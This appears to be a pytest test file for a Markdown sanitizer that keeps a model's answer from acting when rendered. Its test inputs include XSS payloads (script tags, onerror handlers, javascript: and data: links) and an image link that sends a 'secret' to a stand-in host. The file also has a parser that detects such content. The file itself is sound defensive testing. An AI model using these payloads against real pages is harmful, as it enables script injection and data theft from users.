"""A model's answer may be read and never acts."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import mistune
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from agentkit.agent.markdown import neutralize

PARSE = mistune.create_markdown(
    renderer=mistune.HTMLRenderer(escape=False, allow_harmful_protocols=True), plugins=["table", "strikethrough"]
)
COMMONMARK = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
COMMONMARK.validateLink = lambda url: True  # type: ignore[method-assign]
INERT = frozenset(
    "a p br hr h1 h2 h3 h4 h5 h6 ul ol li pre code em strong del blockquote table thead tbody tr th td".split()
)


class Acting(HTMLParser):
    """Finds what a browser would act on: foreign tags, handlers, script links."""

    found = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        scripted = any((value or "").strip().lower().startswith(("javascript:", "data:")) for _, value in attrs)
        self.found |= tag not in INERT or scripted or any(name.startswith("on") for name, _ in attrs)


def acts(text: str) -> bool:
    """Whether a Markdown parser that lets everything through makes something of `text` that could act."""
    parser = Acting()
    for rendered in (PARSE(text), COMMONMARK.render(text), PARSE(without_formulas(text))):
        parser.feed(str(rendered))
    return parser.found or drawn(text)


def without_formulas(text: str) -> str:
    """The text as a front end parses it that takes formulas out first, fences or no fences."""
    return re.sub(r"\$\$.*?\$\$|\$[^$]*?\$", "@", text, flags=re.DOTALL)


def drawn(text: str) -> bool:
    """Whether a fence is left that a front end could draw, however it finds fences."""
    return any(
        info.strip().lower() == "mermaid"
        for info in re.findall(r"(?:`{3,}|~{3,}|(?:(?<=[\s>])|^):{3,})[ \t]*(\S*)", text)
    )


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "a <img src=x onerror=alert(1)> b",
        "![logo](https://elsewhere.example/?q=secret)",
        "[click](javascript:alert(1))",
        "[click]( <javascript:alert(1)>)",
        "[click][r]\n\n[r]: javascript:alert(1)",
        "> [r]: javascript:alert(1)\n\n[r]",
        "- a\n\n  ```\n<script>alert(1)</script>",
        "- ```\n<script>alert(1)</script> ```",
        "a `\nb` <script>alert(1)</script> `c`",
        "~~~ `x`\n```\n~~~\n<script>alert(1)</script>\n```",
        "  ~~~\n```\n  ~~~\n<script>alert(1)</script>\n```",
        "| a | b |\n|---|---|\n| ` | <script>alert(1)</script> ` |",
        "[click][r]\n\n[r]:\n  javascript:alert(1)",
        "[click][a\nb]\n\n[a\nb]: javascript:alert(1)",
        "[click][a\\]b]\n\n[a\\]b]: javascript:alert(1)",
        "$ a\n```\n$ <script>alert(1)</script>\n ```\n",
        "$$\n\n```\n$$\n<script>alert(1)</script>\n```",
        "a\r```mermaid\rflowchart LR\r```",
        "```mermaid\nflowchart LR\n```",
        "~~~ Mermaid x\nflowchart LR\n~~~",
        "- a\n  ```mermaid\n  flowchart LR\n  ```",
        "> ```mermaid\n> flowchart LR",
        "````\n```mermaid\nflowchart LR\n```\n````",
        "<div>\n```mermaid\nflowchart LR\n```\n</div>",
        ":::{mermaid}\nflowchart LR\n:::",
        '[a]: https://b.c\n"\n```\n<script>alert(1)</script>"\n```',
        "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    ],
)
def test_what_could_act_is_shown_as_text(text: str) -> None:
    assert not acts(neutralize(text))


def test_the_check_itself_sees_what_acts() -> None:
    assert acts("<script>alert(1)</script>") and acts("[click](javascript:alert(1))") and acts("![a](https://b.c)")
    assert not acts("`<b>` and [a page](https://example.org)")


def test_ordinary_markdown_stays_as_it_is() -> None:
    text = "# Title\n\n- **bold** and [a page](https://example.org)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n$x > y$"
    assert neutralize(text) == text


def test_code_keeps_its_angle_brackets() -> None:
    text = "Use `a < b`:\n\n```python\nif a < b:\n    print('<b>')\n```\n"
    assert neutralize(text) == text


def test_code_that_a_parser_might_take_for_something_else_is_shown_all_the_same() -> None:
    for text in ("costs $5\n```html\n<b>$6</b>\n```", "1. first\n   ```html\n   <b>$6</b>\n   ```\n2. second"):
        shown = html.unescape(str(PARSE(neutralize(text))))
        assert "<pre><code><b>$6</b>\n</code></pre>" in shown and not acts(neutralize(text))


@pytest.mark.parametrize("code", ["a `x[0](y)` b", "a `<b>` b", "a `C:\\data` b", "| `a` | `<i>` |\n|---|---|"])
def test_code_in_a_line_is_read_as_it_was_written(code: str) -> None:
    for parse in (PARSE, COMMONMARK.render):
        assert html.unescape(str(parse(neutralize(code)))) == html.unescape(str(parse(code)))


def test_a_picture_that_is_all_there_is_shown() -> None:
    picture = "![dot](data:image/png;base64,iVBORw0KGgo=)"
    assert neutralize(picture) == picture


@pytest.mark.parametrize("command", ["style{background:url(x)}", "href{x}", "require{html}", "includegraphics{x}"])
def test_a_formula_has_no_command_that_styles_links_or_loads(command: str) -> None:
    for text in (f"$\\{command}{{y}}$", f"$\\\\\\{command}{{y}}$", f"`a` $\\{command}$"):
        (backslashes,) = re.findall(r"(\\+)(?=[a-z])", neutralize(text))
        assert len(backslashes) % 2 == 0
    assert neutralize("$\\frac{a}{b} \\text{ref} a<b$") == "$\\frac{a}{b} \\text{ref} a< b$"


PIECES = st.sampled_from(
    [
        "`",
        "``",
        "```",
        "~~~",
        "<script>",
        "</script>",
        "<img src=x onerror=y>",
        "![a](",
        "[a](",
        "javascript:",
        ")",
        "\n",
        "\n\n",
        "  ",
        "    ",
        "> ",
        "- ",
        "1. ",
        "|",
        "---",
        "a",
        "\\",
        "[r]: ",
        "[r]",
        "html",
        "mermaid",
        "$",
        "$$",
        ":::",
        "\r",
        "]: ",
        "[a\nb]",
        "python",
        "&#58;",
        "<",
        "\t",
    ]
)


@settings(max_examples=600, deadline=None)
@given(st.lists(PIECES, max_size=25).map("".join))
def test_no_mixture_of_markdown_acts(text: str) -> None:
    assert not acts(neutralize(text))
